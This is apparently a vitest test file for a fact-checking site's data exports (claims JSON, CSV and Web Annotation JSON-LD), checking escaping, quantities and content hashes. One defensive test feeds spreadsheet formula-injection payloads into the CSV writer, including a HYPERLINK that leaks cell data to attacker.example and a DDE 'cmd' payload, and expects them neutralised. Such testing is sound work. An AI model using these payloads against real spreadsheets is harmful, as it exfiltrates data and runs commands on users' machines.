// The open data exports, read back the way their users' tools would read them.
import { parse } from 'csv-parse/sync';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { loadCorpusOrThrow, loadSiteOrThrow } from '../../src/core/content/corpus.ts';
import {
  annotationCollection,
  claimGraphJson,
  claimGraphJsonChunks,
  claimsCsv,
} from '../../src/core/publish/exports.ts';
import type { ClaimGraph, Quantity } from '../../src/core/schema.ts';

const graph = loadCorpusOrThrow('content');
const sourceNames = new Map(graph.sources.map((source) => [source.id, source.name]));

describe('claims.json', () => {
  const sample = loadCorpusOrThrow('content');
  // Graphs of every shape the writer must get right: lists empty, of one entry, of many; text with the
  // characters JSON escapes (newlines, quotes) and beyond ASCII.
  const shapes = {
    'the sample': sample,
    'no claims, sources, relations or retired entries': {
      ...sample,
      claims: [],
      sources: [],
      relations: [],
      retired: [],
    },
    'one claim whose words hold newlines, quotes and “typographic” marks': {
      ...sample,
      claims: [{ ...sample.claims[0]!, text: 'Line one\nline "two"\r\n\t“three” ü 😀', hedges: [] }],
    },
    'no fields at all': {} as ClaimGraph,
  };

  it.each(Object.entries(shapes))('is the graph as JSON, two spaces indented, byte for byte (%s)', (_shape, graph) => {
    expect(claimGraphJson(graph)).toBe(`${JSON.stringify(graph, null, 2)}\n`);
  });

  it('comes in pieces that do not grow with the corpus, never as one string of the whole graph', () => {
    const longest = (graph: ClaimGraph) => Math.max(...[...claimGraphJsonChunks(graph)].map((piece) => piece.length));
    const doubled = {
      ...sample,
      claims: [...sample.claims, ...sample.claims],
      relations: [...sample.relations, ...sample.relations],
    };
    expect(longest(doubled)).toBe(longest(sample));
    expect(claimGraphJson(doubled).length).toBeGreaterThan(claimGraphJson(sample).length * 1.5);
  });
});

describe('claims.csv', () => {
  const rows: Record<string, string>[] = parse(claimsCsv(graph), { columns: true });

  it('has one row per claim whose text, quotes and commas included, reads back unchanged', () => {
    expect(rows.map((row) => row.id)).toEqual(graph.claims.map((claim) => claim.id));
    for (const [index, claim] of graph.claims.entries()) expect(rows[index]!.text).toBe(claim.text);
    expect(graph.claims.some((claim) => claim.text.includes('"') && claim.text.includes(','))).toBe(true);
  });

  it('gives the attribution chain, the quantity bounds and the place in the source', () => {
    const reuters = rows.find((row) => row.attribution_ids === 'scmp < reuters < diplomatic-sources')!;
    expect(reuters.attribution).toBe('South China Morning Post, citing Reuters, citing Diplomatic sources');
    const million = graph.claims.find((claim) => claim.quantity?.min === 1_000_000 && claim.quantity.max === null)!;
    expect(rows.find((row) => row.id === million.id)).toMatchObject({
      quantity_min: '1000000',
      quantity_max: '',
      source_start: String(million.anchor.start),
    });
  });

  it('gives each claim its statement, claimant, stance, hedges and the day it was claimed', () => {
    for (const [index, claim] of graph.claims.entries()) {
      const row = rows[index]!;
      expect(row).toMatchObject({
        statement: claim.statement,
        stance: claim.stance,
        claimant: claim.claimant ?? '',
        claimed_at: claim.claimedAt ?? '',
      });
      expect(row.hedges!.split(' ').filter(Boolean)).toEqual(claim.hedges);
    }
  });

  it('gives a claim whose claimant and date are unknown empty cells, and several hedges space-separated', () => {
    const [first] = graph.claims;
    const unknown = {
      ...first!,
      claimant: null,
      stance: 'reports-allegation' as const,
      attribution: [first!.attribution[0]!],
      hedges: ['more-than' as const, 'alleged' as const],
      claimedAt: null,
      claimedAtFrom: null,
    };
    const [row]: Record<string, string>[] = parse(claimsCsv({ ...graph, claims: [unknown] }), { columns: true });
    expect(row).toMatchObject({
      claimant: '',
      stance: 'reports-allegation',
      hedges: 'more-than alleged',
      claimed_at: '',
    });
  });

  it('says whether each quantity bound is exclusive and gives the N of "about N"; nothing for a claim with no quantity', () => {
    const counted = { unit: 'people', counted: 'people detained' };
    const quantities: [Quantity | null, Record<string, string>][] = [
      [
        { min: 1_000_000, max: null, minExclusive: true, maxExclusive: false, about: null, ...counted },
        {
          quantity_min: '1000000',
          quantity_min_exclusive: 'true',
          quantity_max: '',
          quantity_max_exclusive: 'false',
          quantity_about: '',
        },
      ],
      [
        { min: 36_000, max: 44_000, minExclusive: false, maxExclusive: false, about: 40_000, ...counted },
        { quantity_min: '36000', quantity_max: '44000', quantity_min_exclusive: 'false', quantity_about: '40000' },
      ],
      [null, { quantity_min: '', quantity_min_exclusive: '', quantity_max_exclusive: '', quantity_about: '' }],
    ];
    const variant: ClaimGraph = {
      ...graph,
      claims: quantities.map(([quantity], index) => ({ ...graph.claims[index]!, quantity })),
    };
    const read: Record<string, string>[] = parse(claimsCsv(variant), { columns: true });
    for (const [index, [, expected]] of quantities.entries()) expect(read[index]).toMatchObject(expected);
  });

  it('makes a text cell that a spreadsheet would run as a formula inert with a leading quote (OWASP), and leaves numbers as they are', () => {
    const [first] = graph.claims;
    const formulas = [
      '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\tcmd',
      '\rcmd',
    ];
    const claims = formulas.map((text, index) => ({
      ...first!,
      id: `fx${index}abc`,
      text,
      statement: text,
      quantity: {
        min: -5,
        max: null,
        minExclusive: false,
        maxExclusive: false,
        about: null,
        unit: 'people',
        counted: text,
      },
    }));
    const sources = graph.sources.map((source) =>
      source.id === first!.attribution[0] ? { ...source, name: '=cmd|"/c calc"!A1' } : source,
    );
    const read: Record<string, string>[] = parse(claimsCsv({ ...graph, claims, sources }), { columns: true });
    for (const [index, text] of formulas.entries()) {
      expect(read[index]).toMatchObject({
        text: `'${text}`,
        statement: `'${text}`,
        quantity_counted: `'${text}`,
        quantity_min: '-5',
      });
      expect(read[index]!.attribution).toMatch(/^'=cmd\|"\/c calc"!A1/);
    }
  });

  it('gives each claim its current verdict and the day of it, and nothing for an unrated claim', () => {
    const fixture: Record<string, string>[] = parse(claimsCsv(loadCorpusOrThrow('tests/fixtures/minimal-corpus')), {
      columns: true,
    });
    expect(fixture[0]).toMatchObject({ id: 'tw22ab', verdict: 'true', verdict_date: '2026-11-20' });
    expect(rows.every((row) => row.verdict === '' && row.verdict_date === '')).toBe(true);
  });
});

describe('annotations.jsonld', () => {
  const prefix = 'https://factcheck.example.org/';
  const hosted = loadSiteOrThrow('content', { base: prefix });
  const collection = annotationCollection(hosted.graph, { prefix, texts: hosted.texts });
  const ni = (bytes: Buffer | string) => `ni:///sha-256;${createHash('sha256').update(bytes).digest('base64url')}`;

  it('is a Web Annotation collection with one annotation per claim, linking to the claim page', () => {
    expect(collection).toMatchObject({
      '@context': 'http://www.w3.org/ns/anno.jsonld',
      type: 'AnnotationCollection',
      total: graph.claims.length,
    });
    expect(collection.first.items.map((item) => item.body[1])).toEqual(
      hosted.graph.claims.map((claim) => ({
        type: 'SpecificResource',
        purpose: 'linking',
        source: { id: claim.url, type: 'Text', format: 'text/html' },
      })),
    );
  });

  it('describes each claim by its statement, then its kind and who claims it', () => {
    for (const [index, claim] of graph.claims.entries()) {
      const [describing] = collection.first.items[index]!.body;
      expect(describing).toMatchObject({ type: 'TextualBody', purpose: 'describing', format: 'text/plain' });
      const value = 'value' in describing! ? describing.value : '';
      expect(value.startsWith(`${claim.statement} `)).toBe(true);
      expect(value).toContain(claim.claimant === null ? 'An unidentified source' : sourceNames.get(claim.claimant)!);
    }
  });

  it('targets the text the site publishes for the article: a text file as it is, its hash the canonical id', () => {
    for (const [index, claim] of graph.claims.entries()) {
      const article = graph.articles.find((candidate) => candidate.slug === claim.article)!;
      const raw = readFileSync(join('content', article.sourceFile));
      const { source, selector } = collection.first.items[index]!.target;
      const url = `${prefix}data/sources/${article.slug}.txt`;
      expect(source).toEqual({ id: url, type: 'Text', format: 'text/plain', canonical: ni(raw) });
      expect(hosted.texts.get(article.slug)).toBe(raw.toString('utf8'));
      const [quote, position] = selector;
      const chars = Array.from(raw.toString('utf8'));
      expect(chars.slice(position.start, position.end).join('')).toBe(quote.exact);
      expect(chars.slice(position.start - Array.from(quote.prefix).length, position.start).join('')).toBe(quote.prefix);
      expect(quote.exact.replace(/\s+/g, ' ')).toBe(claim.text);
    }
  });

  it('names a saved page’s text by its own hash, and by `via` the page it came from and the article’s URL', () => {
    const saved = loadSiteOrThrow('tests/fixtures/html-corpus', { base: prefix });
    const annotations = annotationCollection(saved.graph, { prefix, texts: saved.texts });
    for (const [index, claim] of saved.graph.claims.entries()) {
      const article = saved.graph.articles.find((candidate) => candidate.slug === claim.article)!;
      const raw = readFileSync(join('tests/fixtures/html-corpus', article.sourceFile));
      const text = saved.texts.get(article.slug)!;
      expect(text).not.toContain('<p>');
      const via = [...(article.sourceUrl ? [article.sourceUrl] : []), ni(raw)];
      const url = `${prefix}data/sources/${article.slug}.txt`;
      const expected = { id: url, type: 'Text', format: 'text/plain', canonical: ni(text), via };
      expect(annotations.first.items[index]!.target.source).toEqual(expected);
    }
    expect(saved.graph.articles.some((article) => article.sourceUrl)).toBe(true);
  });
});
